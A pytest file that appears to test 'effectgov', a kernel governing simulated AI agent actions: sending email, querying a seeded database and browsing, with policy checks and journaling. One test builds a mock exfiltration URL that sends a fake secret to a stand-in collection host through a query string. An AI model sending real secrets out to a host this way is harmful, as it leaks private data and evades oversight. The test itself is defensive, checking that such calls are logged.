"""Simulated world handlers and their journaling discipline."""

import hashlib
import json

import pytest

from effectgov import (
    ExecStatus,
    GovernanceKernel,
    Phase,
    Policy,
    PolicyRule,
    TrustLevel,
    seeded_world,
    standard_registry,
)
from effectgov.directives import canonical_value_bytes


def all_sim_policy():
    return Policy.from_rules([
        PolicyRule(capability=kind, min_trust=TrustLevel.AGENT,
                   allowed_phases=frozenset({Phase.EXECUTE}))
        for kind in ("email.send", "db.query", "web.browse")
    ])


@pytest.fixture
def kernel():
    return GovernanceKernel(all_sim_policy(), standard_registry(), seeded_world())


def issue(kernel, kind, params):
    return kernel.issue(kind, params, "step", TrustLevel.AGENT, Phase.EXECUTE)


def test_email_send_appends_and_journals(kernel):
    outcome = issue(kernel, "email.send", {"to": "a@b.c", "body": "hi"})
    assert outcome.result == "sent"
    assert kernel.world.outbox == (("a@b.c", "hi"),)
    assert kernel.world.journal == (("email.send", 1),)


def test_email_missing_param_fails_without_mutation(kernel):
    outcome = issue(kernel, "email.send", {"body": "hi"})
    assert outcome.exec_status is ExecStatus.FAILED
    assert kernel.world.outbox == ()
    assert kernel.world.journal == ()


def test_fifty_sends_journal_fifty(kernel):
    for index in range(50):
        issue(kernel, "email.send", {"to": "a@b.c", "body": str(index)})
    kinds = [kind for kind, _ in kernel.world.journal]
    assert kinds == ["email.send"] * 50


def test_db_query_returns_seeded_rows(kernel):
    outcome = issue(kernel, "db.query", {"table": "sensitive", "select": "*"})
    rows = json.loads(outcome.result)
    assert len(rows) == 3
    assert rows[0]["secret"].startswith("FAKE-SECRET-")


def test_db_query_is_read_only_but_journaled(kernel):
    before_tables = kernel.world.table("sensitive")
    issue(kernel, "db.query", {"table": "sensitive", "select": "*"})
    assert kernel.world.table("sensitive") == before_tables
    assert kernel.world.journal == (("db.query", 1),)


def test_db_query_unknown_table_fails(kernel):
    before = kernel.world.snapshot_bytes()
    outcome = issue(kernel, "db.query", {"table": "missing", "select": "*"})
    assert outcome.exec_status is ExecStatus.FAILED
    assert "unknown table" in outcome.error
    assert kernel.world.snapshot_bytes() == before


def test_db_result_digest_matches_recompute(kernel):
    outcome = issue(kernel, "db.query", {"table": "users", "select": "name"})
    recomputed = hashlib.sha256(canonical_value_bytes(outcome.result)).digest()
    assert kernel.chain.records[0].result_digest == recomputed


def test_db_projection(kernel):
    outcome = issue(kernel, "db.query", {"table": "users", "select": "id"})
    assert json.loads(outcome.result) == ["1", "2"]
    bad = issue(kernel, "db.query", {"table": "users", "select": "secret"})
    assert bad.exec_status is ExecStatus.FAILED


def test_web_browse_logs_full_url(kernel):
    url = "http://collect.example/drop?q=FAKE-SECRET-0001"
    outcome = issue(kernel, "web.browse", {"url": url})
    assert outcome.result == "fetched"
    assert kernel.world.http_log == (url,)


def test_web_browse_empty_url_fails(kernel):
    outcome = issue(kernel, "web.browse", {"url": ""})
    assert outcome.exec_status is ExecStatus.FAILED
    assert kernel.world.http_log == ()


def test_denied_directive_never_reaches_handler():
    kernel = GovernanceKernel(Policy.from_rules([]), standard_registry(), seeded_world())
    issue(kernel, "web.browse", {"url": "http://x.example/"})
    assert kernel.world.http_log == ()
    assert kernel.world.journal == ()


def test_no_browse_directives_no_http_log(kernel):
    issue(kernel, "email.send", {"to": "a@b.c", "body": "hi"})
    issue(kernel, "db.query", {"table": "users", "select": "*"})
    assert kernel.world.http_log == ()


def test_snapshot_bytes_deterministic():
    assert seeded_world().snapshot_bytes() == seeded_world().snapshot_bytes()


def test_journal_counts_every_mutation_once(kernel):
    issue(kernel, "email.send", {"to": "a@b.c", "body": "x"})
    issue(kernel, "db.query", {"table": "users", "select": "*"})
    issue(kernel, "web.browse", {"url": "http://x.example/"})
    world = kernel.world
    assert world.mutation_count == len(world.outbox) + 1 + len(world.http_log)
    assert [kind for kind, _ in world.journal] == ["email.send", "db.query", "web.browse"]
